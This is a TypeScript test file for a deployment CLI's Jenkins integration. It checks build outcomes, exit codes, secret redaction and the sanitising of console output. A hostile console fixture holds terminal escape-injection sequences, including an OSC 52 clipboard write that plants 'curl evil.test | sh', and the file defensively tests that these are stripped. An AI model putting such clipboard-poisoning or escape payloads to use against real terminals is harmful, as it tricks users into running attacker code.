import { execFile, spawn } from 'node:child_process';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startJenkinsSandbox, type JenkinsSandbox, type SandboxBuildResult } from '../../src/sandbox/jenkins.js';
import { createProject } from '../helpers/project.js';
import { IAC_BIN, parseNdjson, runIac } from '../helpers/run-cli.js';
import { toolAvailable } from '../helpers/tools.js';

const TOKEN = '11d1f0c0ffee1234567890abcdef5678';
const USER = 'deployer';

function runDirFiles(work: string): string[] {
  const runs = join(work, '.iac', 'runs');
  return readdirSync(runs).flatMap((dir) => readdirSync(join(runs, dir)).map((file) => join(runs, dir, file)));
}

describe('iac up --only git,jenkins against the Jenkins sandbox', () => {
  let jenkins: JenkinsSandbox;
  const results: SandboxBuildResult[] = ['SUCCESS', 'UNSTABLE', 'FAILURE', 'ABORTED'];

  beforeAll(async () => {
    jenkins = await startJenkinsSandbox({
      users: [{ user: USER, token: TOKEN }],
      jobs: {
        'shop/deploy': {
          parameters: ['ENV', 'GIT_SHA'],
          builds: [{ result: 'SUCCESS', durationMs: 300, consoleLines: ['building image', 'pushing image', 'done'] }],
        },
        ...Object.fromEntries(
          results.map((result) => [`results/${result.toLowerCase()}`, { parameters: ['GIT_SHA'], builds: [{ result, durationMs: 100, consoleLines: [`tests say ${result}`] }] }]),
        ),
        'results/cancelled': { parameters: ['GIT_SHA'], builds: [{ result: 'SUCCESS', cancelInQueue: true, queueDelayMs: 100 }] },
      },
    });
  });
  afterAll(async () => jenkins.close());

  it('pushes the exact SHA, triggers exactly one build with GIT_SHA, follows it and saves the console', async () => {
    const project = createProject({ jenkinsUrl: jenkins.url });
    try {
      const sha = project.git('rev-parse', 'HEAD');
      const before = jenkins.triggers.length;
      const result = await runIac(['up', '--only', 'git,jenkins'], {
        cwd: project.work,
        env: { IAC_JENKINS_USER: USER, IAC_JENKINS_TOKEN: TOKEN },
      });
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      expect(project.git('ls-remote', 'origin', 'refs/heads/develop').split('\t')[0]).toBe(sha);
      const triggers = jenkins.triggers.slice(before);
      expect(triggers).toHaveLength(1);
      expect(triggers[0]).toMatchObject({ job: 'shop/deploy', endpoint: 'buildWithParameters', parameters: { ENV: 'dev', GIT_SHA: sha }, user: USER });
      expect(result.stdout).toMatch(/jenkins: done in \S+ — #\d+ SUCCESS/);
      expect(result.stdout).toContain(`${jenkins.url}job/shop/job/deploy/`);
      const log = runDirFiles(project.work).find((f) => /jenkins-shop-deploy-\d+\.log$/.test(f));
      expect(log).toBeDefined();
      const number = Number(/-(\d+)\.log$/.exec(log as string)?.[1]);
      // Byte for byte: Jenkins stores LF and sends CRLF; the saved log is what Jenkins stores.
      expect(readFileSync(log as string)).toEqual(Buffer.from(jenkins.console('shop/deploy', number)));
      for (const file of runDirFiles(project.work)) expect(readFileSync(file, 'utf8')).not.toContain(TOKEN);
      expect(result.stdout + result.stderr).not.toContain(TOKEN);
    } finally {
      project.cleanup();
    }
  });

  it.each([
    ['success', 0],
    ['unstable', 21],
    ['failure', 20],
    ['aborted', 22],
    ['cancelled', 22],
  ])('a %s build exits %i, and a failure shows the console tail and the build URL', async (name, code) => {
    const project = createProject({
      jenkinsUrl: jenkins.url,
      environments: { dev: { branch: 'develop', jenkins: { job: `results/${name}`, parameters: { GIT_SHA: '${git.sha}' }, pollInterval: '50ms' } } },
    });
    try {
      const result = await runIac(['up', '--only', 'git,jenkins', '--json'], {
        cwd: project.work,
        env: { IAC_JENKINS_USER: USER, IAC_JENKINS_TOKEN: TOKEN },
      });
      expect(result.code).toBe(code);
      const events = parseNdjson(result.stdout);
      expect(events.at(-1)).toMatchObject({ type: 'result', exitCode: code });
      expect(result.stdout).not.toContain(TOKEN);
      if (name !== 'success' && name !== 'cancelled') {
        const error = (events.at(-1) as { error: { details: string[]; hint: string } }).error;
        expect(error.details.join('\n')).toContain(`tests say ${name.toUpperCase()}`);
        expect(error.hint).toContain(`${jenkins.url}job/results/job/${name}/`);
      }
    } finally {
      project.cleanup();
    }
  });

  it('a wrong token is exit 4 before anything is pushed, with a message that names the URL and never the token', async () => {
    const project = createProject({ jenkinsUrl: jenkins.url });
    try {
      const wrong = 'ffffffffffffffffffffffffffffffff';
      const remoteBefore = project.git('ls-remote', 'origin');
      const result = await runIac(['up', '--only', 'git,jenkins'], { cwd: project.work, env: { IAC_JENKINS_USER: USER, IAC_JENKINS_TOKEN: wrong } });
      expect(result.code).toBe(4);
      // Caught by the preflight: nothing was pushed.
      expect(project.git('ls-remote', 'origin')).toBe(remoteBefore);
      expect(result.stderr).toContain(jenkins.url.replace(/\/$/, ''));
      expect(result.stderr).toContain('IAC_JENKINS_TOKEN');
      expect(result.stdout + result.stderr).not.toContain(wrong);
    } finally {
      project.cleanup();
    }
  });

  it('an unreachable Jenkins is exit 4 naming the URL', async () => {
    const project = createProject({ jenkinsUrl: 'http://127.0.0.1:9/' });
    try {
      const result = await runIac(['up', '--only', 'git,jenkins'], { cwd: project.work, env: { IAC_JENKINS_USER: USER, IAC_JENKINS_TOKEN: TOKEN } });
      expect(result.code).toBe(4);
      expect(result.stderr).toContain('http://127.0.0.1:9');
      expect(result.stderr).not.toContain(TOKEN);
    } finally {
      project.cleanup();
    }
  });
});

const ESC = '\u001b';
const BEL = '\u0007';
const OTHER_SHA = 'fedcba9876543210fedcba9876543210fedcba98';
/** A secret variable in the environment (its name makes it secret), with characters that encode differently. */
const SECRET = 'p@ss w0rd/Secret-42';
const BASIC = Buffer.from(`${USER}:${TOKEN}`).toString('base64');

/** A console that leaks secrets in several spellings and tries to drive the terminal. */
const HOSTILE_CONSOLE = [
  `+ curl -H "Authorization: Basic ${BASIC}" https://registry.example.test/v2/`,
  `token=${TOKEN}`,
  `db password is ${SECRET}`,
  `encoded: ${encodeURIComponent(SECRET)}`,
  `${ESC}]0;PWNED-TITLE${BEL}visible-after-title`,
  `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}${BEL}visible-after-clipboard`,
  `${ESC}[2J${ESC}[13;37Hvisible-after-clear`,
  `${ESC}[32mgreen-stays${ESC}[0m`,
];

/** What must never reach a terminal: OSC (title, clipboard), BEL, clear screen, absolute cursor moves from the console. */
function expectNoHostileSequences(text: string): void {
  expect(text).not.toContain(`${ESC}]`);
  expect(text).not.toContain(BEL);
  expect(text).not.toContain('PWNED-TITLE');
  expect(text).not.toContain(`${ESC}[2J`);
  expect(text).not.toContain(`${ESC}[13;37H`);
}

function expectNoSecrets(text: string): void {
  expect(text).not.toContain(TOKEN);
  expect(text).not.toContain(BASIC);
  expect(text).not.toContain(BASIC.slice(8, 30));
  expect(text).not.toContain(SECRET);
  expect(text).not.toContain(encodeURIComponent(SECRET));
}

describe('iac up --only git,jenkins: what Jenkins sends is data, and secrets stay secret', () => {
  let jenkins: JenkinsSandbox;
  beforeAll(async () => {
    const hostile = { parameters: ['GIT_SHA'], builds: [{ result: 'SUCCESS' as const, durationMs: 200, consoleLines: HOSTILE_CONSOLE }] };
    jenkins = await startJenkinsSandbox({
      users: [{ user: USER, token: TOKEN }],
      jobs: {
        'shop/wrong-revision': { parameters: ['GIT_SHA'], builds: [{ result: 'SUCCESS', durationMs: 100, revision: OTHER_SHA }] },
        'shop/hostile-plain': hostile,
        'shop/hostile-json': hostile,
        'shop/hostile-tty': hostile,
      },
    });
  });
  afterAll(async () => jenkins.close());

  const projectFor = (job: string) =>
    createProject({ jenkinsUrl: jenkins.url, environments: { dev: { branch: 'develop', jenkins: { job, parameters: { GIT_SHA: '${git.sha}' }, pollInterval: '50ms' } } } });
  const env = { IAC_JENKINS_USER: USER, IAC_JENKINS_TOKEN: TOKEN, DEPLOY_PASSWORD: SECRET };

  it('a build that reports another revision fails the run with exit 23, naming both commits and the build URL; --json result failed', async () => {
    const project = projectFor('shop/wrong-revision');
    try {
      const sha = project.git('rev-parse', 'HEAD');
      const plain = await runIac(['up', '--only', 'git,jenkins'], { cwd: project.work, env });
      expect(plain.code).toBe(23);
      expect(plain.stderr).toContain(sha);
      expect(plain.stderr).toContain(OTHER_SHA);
      expect(plain.stderr).toMatch(new RegExp(`${jenkins.url}job/shop/job/wrong-revision/\\d+/`));
      const json = await runIac(['up', '--only', 'git,jenkins', '--json'], { cwd: project.work, env });
      expect(json.code).toBe(23);
      const result = parseNdjson(json.stdout).at(-1) as { type: string; exitCode: number; outcome: string; error: { code: string; message: string } };
      expect(result).toMatchObject({ type: 'result', exitCode: 23, outcome: 'failed', error: { code: 'jenkins.wrong-revision' } });
      expect(result.error.message).toContain(sha);
      expect(result.error.message).toContain(OTHER_SHA);
    } finally {
      project.cleanup();
    }
  });

  it('--verbose (plain): the saved console is redacted (token, secret variable, base64 and URL-encoded forms), 0600, every other byte kept; the screen shows no control sequence but colour', async () => {
    const project = projectFor('shop/hostile-plain');
    try {
      const result = await runIac(['up', '--only', 'git,jenkins', '--verbose'], { cwd: project.work, env });
      expect(result.code).toBe(0);
      const log = runDirFiles(project.work).find((f) => /jenkins-shop-hostile-plain-\d+\.log$/.test(f)) as string;
      expect(log).toBeDefined();
      expect(statSync(log).mode & 0o777).toBe(0o600);
      const saved = readFileSync(log, 'utf8');
      expectNoSecrets(saved);
      const number = Number(/-(\d+)\.log$/.exec(log)?.[1]);
      const expected = jenkins
        .console('shop/hostile-plain', number)
        .split(BASIC).join('***')
        .split(TOKEN).join('***')
        .split(encodeURIComponent(SECRET)).join('***')
        .split(SECRET).join('***');
      // Only the secrets differ: the terminal sequences are kept in the file, as Jenkins stores them.
      expect(saved).toBe(expected);
      expect(saved).toContain(`${ESC}]0;PWNED-TITLE`);
      for (const file of runDirFiles(project.work)) expectNoSecrets(readFileSync(file, 'utf8'));
      const screen = result.stdout + result.stderr;
      expectNoSecrets(screen);
      expectNoHostileSequences(screen);
      for (const text of ['visible-after-title', 'visible-after-clipboard', 'visible-after-clear', `${ESC}[32mgreen-stays${ESC}[0m`]) expect(screen).toContain(text);
    } finally {
      project.cleanup();
    }
  });

  it('--json: step.log events carry the console sanitized and redacted', async () => {
    const project = projectFor('shop/hostile-json');
    try {
      const result = await runIac(['up', '--only', 'git,jenkins', '--json', '--verbose'], { cwd: project.work, env });
      expect(result.code).toBe(0);
      const events = parseNdjson(result.stdout);
      const logs = events.filter((event) => event.type === 'step.log').map((event) => String(event.text));
      expect(logs).toContain('visible-after-clear');
      const all = result.stdout + result.stderr + logs.join('\n');
      expectNoSecrets(all);
      expectNoHostileSequences(logs.join('\n'));
    } finally {
      project.cleanup();
    }
  });

  it.runIf(toolAvailable('script'))('--verbose in a pseudo-terminal (script -qfec): no OSC/CSI from the console reaches the terminal', async () => {
    const project = projectFor('shop/hostile-tty');
    try {
      // script's pseudo-terminal starts 0 columns wide: give it a size, as a terminal window has.
      const command = `stty cols 200 rows 50; ${process.execPath} ${IAC_BIN} up --only git,jenkins --verbose`;
      const out = await new Promise<{ code: number; text: string }>((resolve) => {
        execFile(
          'script',
          ['-qfec', command, '/dev/null'],
          { cwd: project.work, env: { ...process.env, ...env, CI: '', NO_COLOR: '', FORCE_COLOR: '', TERM: 'xterm-256color' }, timeout: 60_000, maxBuffer: 16 * 1024 * 1024 },
          (error, stdout) => resolve({ code: error ? (typeof error.code === 'number' ? error.code : 1) : 0, text: stdout }),
        );
      });
      expect(out.code).toBe(0);
      expect(out.text).toContain('visible-after-clear');
      expectNoSecrets(out.text);
      expectNoHostileSequences(out.text);
    } finally {
      project.cleanup();
    }
  });
});

describe('Ctrl-C: the summary says a build keeps running only when Jenkins says it does', () => {
  let jenkins: JenkinsSandbox;
  beforeAll(async () => {
    // The build ends after 300 ms, but its console claims more data forever: iac is still following it.
    jenkins = await startJenkinsSandbox({
      jobs: { 'shop/ended': { parameters: ['GIT_SHA'], builds: [{ result: 'SUCCESS', durationMs: 300 }] } },
      faults: { moreDataForever: true },
    });
  });
  afterAll(async () => jenkins.close());

  it('a build that already ended is not reported as running', async () => {
    const project = createProject({ jenkinsUrl: jenkins.url, environments: { dev: { branch: 'develop', jenkins: { job: 'shop/ended', parameters: { GIT_SHA: '${git.sha}' }, pollInterval: '100ms' } } } });
    try {
      const child = spawn(process.execPath, [IAC_BIN, 'up', '--only', 'jenkins'], { cwd: project.work, env: { ...process.env, NO_COLOR: '1', CI: '' } });
      let out = '';
      let url: string | undefined;
      const collect = (chunk: Buffer): void => {
        out += chunk.toString();
        url ??= /build #\d+: (\S+)/.exec(out)?.[1];
      };
      child.stdout.on('data', collect);
      child.stderr.on('data', collect);
      const closed = new Promise<number>((resolve) => child.on('close', (code) => resolve(code ?? 1)));
      for (let i = 0; i < 200 && url === undefined; i++) await new Promise((r) => setTimeout(r, 50));
      expect(url).toBeDefined();
      for (let i = 0; i < 200; i++) {
        const build = (await (await fetch(`${url}api/json`)).json()) as { building: boolean };
        if (!build.building) break;
        await new Promise((r) => setTimeout(r, 50));
      }
      child.kill('SIGINT');
      expect(await closed).toBe(130);
      expect(out).not.toContain('keeps running');
    } finally {
      project.cleanup();
    }
  });
});
